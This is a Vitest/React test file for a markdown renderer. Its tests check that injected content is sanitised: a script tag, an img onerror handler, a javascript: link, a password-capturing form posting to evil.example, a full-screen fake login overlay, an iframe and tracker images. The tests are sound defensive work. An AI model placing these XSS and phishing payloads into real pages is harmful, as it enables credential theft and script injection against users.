import { render } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { Markdown, renderMarkdown } from './markdown';

describe('markdown', () => {
  it('turns single line breaks into <br> and renders GitHub tables', () => {
    const html = renderMarkdown('first\nsecond\n\n| a | b |\n| - | - |\n| 1 | 2 |');
    expect(html).toContain('first<br>second');
    expect(html).toContain('<table>');
    expect(html).toContain('<td>2</td>');
  });

  it('adds no header ids', () => {
    expect(renderMarkdown('# 标题')).toBe('<h1>标题</h1>\n');
  });

  it('leaves an injected <script> and onerror inert', async () => {
    const hits = vi.fn();
    (window as unknown as { hit: () => void }).hit = hits;
    const source =
      'hello <script>window.hit()</script>\n\n<img src="x" onerror="window.hit()">\n\n[link](javascript:window.hit())';
    const { container } = render(<Markdown source={source} />);
    expect(container.querySelector('script')).toBeNull();
    const img = container.querySelector('img');
    expect(img?.getAttribute('onerror')).toBeNull();
    expect(container.querySelector('a')?.getAttribute('href') ?? '').not.toContain('javascript:');
    img?.dispatchEvent(new Event('error'));
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(hits).not.toHaveBeenCalled();
  });

  it('drops forms, password fields, frames, styles and classes: nothing can imitate the app over the page', () => {
    const source = [
      '<form action="https://evil.example/steal"><input type="password" name="pw"><button>登录</button></form>',
      '<div style="position:fixed;inset:0;z-index:9999" class="adm-dialog">请重新登录</div>',
      '<iframe src="https://evil.example"></iframe><video src="/uploads/a.mp4"></video>',
    ].join('\n\n');
    const { container } = render(<Markdown source={source} />);
    for (const selector of ['form', 'input', 'button', 'iframe', 'video', '[style]', '[class*="adm"]'])
      expect(container.querySelector(selector), selector).toBeNull();
    expect(container.textContent).toContain('请重新登录'); // the words stay, as plain text
  });

  it('keeps our own images and drops images from other hosts', () => {
    const html = renderMarkdown(
      `![ours](/uploads/a/cat.png)\n\n![same origin](${window.location.origin}/files/public/b.png)\n\n![pixel](https://tracker.example/p.gif)\n\n<img src="//cdn.example/x.png">`,
    );
    expect(html).toContain('src="/uploads/a/cat.png"');
    expect(html).toContain(`src="${window.location.origin}/files/public/b.png"`);
    expect(html).not.toContain('tracker.example');
    expect(html).not.toContain('cdn.example');
  });

  it('opens outside links in a new tab without passing the opener, and keeps our own links', () => {
    const { container } = render(
      <Markdown source={'[官网](https://example.com) [帮助](/#/set/help/index)'} />,
    );
    const [outside, own] = Array.from(container.querySelectorAll('a'));
    expect(outside?.getAttribute('target')).toBe('_blank');
    expect(outside?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(own?.getAttribute('href')).toBe('/#/set/help/index');
    expect(own?.getAttribute('target')).toBeNull();
  });
});
